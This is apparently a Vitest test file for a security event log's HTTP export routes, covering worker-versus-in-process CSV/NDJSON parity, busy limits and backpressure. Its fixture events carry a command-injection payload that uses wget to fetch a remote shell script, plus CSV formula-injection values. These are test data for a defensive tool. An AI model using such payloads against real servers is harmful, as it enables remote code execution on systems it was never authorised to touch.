import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import Fastify, { type FastifyInstance, type FastifyRequest } from 'fastify';
import { get as httpGet, type IncomingMessage, type ClientRequest } from 'node:http';
import { registerHistoryRoutes } from './history.js';
import { openSqliteLog, type SqliteEventLog } from '../store/sqlite/index.js';
import { createExporter, type Exporter } from '../store/sqlite/export.js';
import { makeEvent, rng, tempDir } from '../store/sqlite/testkit.js';

const T0 = Date.parse('2026-11-20T12:00:00Z');
const HOUR = 3_600_000;
const SLOW = 120_000;
const publicView = (req: FastifyRequest) => ((req.query as { view?: string }).view === 'public' ? { prefixV4: 24, prefixV6: 48 } : null);

let log: SqliteEventLog;
let removeDir: () => void;
const apps: FastifyInstance[] = [];
let inProcess: string;
let worker: string;
let limited: string;
let limitedExporter: Exporter;

async function serve(register: (app: FastifyInstance) => void): Promise<string> {
  // A test that fails mid-export leaves a paused client: close must not wait for it.
  const app = Fastify({ forceCloseConnections: true });
  register(app);
  apps.push(app);
  return app.listen({ host: '127.0.0.1', port: 0 });
}

beforeAll(async () => {
  const t = tempDir('attackmap-http-export-');
  removeDir = t.remove;
  log = openSqliteLog({ dataDir: t.dir, retentionIntervalMs: 0 });
  const r = rng(23);
  // ~7 KB of details per event: the window's CSV (~45 MB) is far more than loopback socket
  // buffers hold (several MB each way once autotuned).
  for (let i = 0; i < 6; i++) {
    await log.append(Array.from({ length: 1000 }, () => makeEvent(r, T0 - 2 * HOUR + Math.floor(r() * 2 * HOUR), {
      details: { payload: 'GET /cgi-bin/;wget${IFS}http://198.51.100.9/x.sh'.repeat(140 + Math.floor(r() * 10)) },
    })));
  }
  await log.append([makeEvent(r, T0 - HOUR, { rule: { name: '+SUM(1,1), "x"\nnext' }, observer: { name: '=sensor', product: 'p' } })]);
  inProcess = await serve((app) => registerHistoryRoutes(app, { log, publicView, exporter: null, now: () => T0 }));
  worker = await serve((app) => registerHistoryRoutes(app, { log, publicView, now: () => T0 }));
  limitedExporter = createExporter({ file: log.file, maxConcurrent: 1, chunkBytes: 16_384 });
  limited = await serve((app) => registerHistoryRoutes(app, { log, publicView, exporter: limitedExporter, now: () => T0 }));
}, SLOW);

afterAll(async () => {
  await Promise.all(apps.map((a) => a.close()));
  await limitedExporter?.close();
  await log?.close();
  removeDir?.();
});

const window = `from=${T0 - 2 * HOUR}&to=${T0}`;

/** Starts a GET and resolves once the response head has arrived; the body is left unread (paused). */
function openPaused(url: string): Promise<{ req: ClientRequest; res: IncomingMessage }> {
  return new Promise((resolve, reject) => {
    const req = httpGet(url, (res) => { res.pause(); resolve({ req, res }); });
    req.on('error', reject);
  });
}

async function until(f: () => boolean, ms = 20_000): Promise<void> {
  const end = Date.now() + ms;
  while (!f()) {
    if (Date.now() > end) throw new Error('condition not reached');
    await new Promise((r) => setTimeout(r, 50));
  }
}

describe('GET /api/events exports in a worker', () => {
  it('writes the same CSV and NDJSON as the in-process export, filters and public view included', async () => {
    // The last 75 minutes: the hostile row and ~3,700 others (~25 MB as CSV).
    const recent = `from=${T0 - 75 * 60_000}&to=${T0}`;
    const cases = [
      `format=csv&${recent}`,
      `format=ndjson&${recent}`,
      `format=csv&${recent}&category=scan,exploit&minSeverity=medium`,
      `format=ndjson&${recent}&port=22&view=public`,
      `format=csv&${recent}&view=public`,
      `format=csv&from=${T0 + HOUR}&to=${T0 + 2 * HOUR}`,
    ];
    for (const c of cases) {
      const [a, b] = await Promise.all([fetch(`${inProcess}/api/events?${c}`), fetch(`${worker}/api/events?${c}`)]);
      expect(b.status, c).toBe(200);
      expect(b.headers.get('content-type'), c).toBe(a.headers.get('content-type'));
      expect(b.headers.get('content-disposition'), c).toBe(a.headers.get('content-disposition'));
      const [ta, tb] = await Promise.all([a.text(), b.text()]);
      expect(tb.length, c).toBeGreaterThan(c.includes(`${T0 + HOUR}`) ? 100 : 10_000);
      expect(tb === ta, c).toBe(true);
    }
  }, SLOW);

  it('answers 503 EXPORT_BUSY with Retry-After beyond the bound, and a disconnect stops the export', async () => {
    const first = await openPaused(`${limited}/api/events?format=csv&${window}`);
    expect(first.res.statusCode).toBe(200);
    await until(() => limitedExporter.stats().bytes > 0);

    const busy = await fetch(`${limited}/api/events?format=ndjson&${window}`);
    expect(busy.status).toBe(503);
    expect(Number(busy.headers.get('retry-after'))).toBeGreaterThan(0);
    expect(((await busy.json()) as { error: { code: string } }).error.code).toBe('EXPORT_BUSY');
    // JSON pages are not exports and still answer.
    expect((await fetch(`${limited}/api/events?${window}&limit=5`)).status).toBe(200);

    first.req.destroy();
    await until(() => limitedExporter.stats().active === 0);
    const after = limitedExporter.stats();
    expect(after).toMatchObject({ cancelled: 1, completed: 0 });
    await new Promise((r) => setTimeout(r, 300));
    expect(limitedExporter.stats().bytes).toBe(after.bytes);

    const again = await fetch(`${limited}/api/events?format=ndjson&from=${T0 - 10 * 60_000}&to=${T0}`);
    expect(again.status).toBe(200);
    expect((await again.text()).length).toBeGreaterThan(1000);
  }, SLOW);

  it('a client that stops reading pauses the worker; it resumes and gets everything', async () => {
    const whole = await (await fetch(`${inProcess}/api/events?format=csv&${window}`)).arrayBuffer();
    expect(whole.byteLength).toBeGreaterThan(40_000_000);
    const before = limitedExporter.stats().bytes;
    const { res } = await openPaused(`${limited}/api/events?format=csv&${window}`);
    // Let the socket buffers fill until the worker has produced nothing for half a second.
    let last = -1;
    for (;;) {
      await new Promise((r) => setTimeout(r, 500));
      const b = limitedExporter.stats().bytes;
      if (b === last && b > before) break;
      last = b;
    }
    const produced = last - before;
    expect(produced).toBeLessThan(whole.byteLength / 2);

    let got = 0;
    res.on('data', (c: Buffer) => { got += c.length; });
    res.resume();
    await new Promise((r) => res.on('end', r));
    expect(got).toBe(whole.byteLength);
  }, SLOW);
});
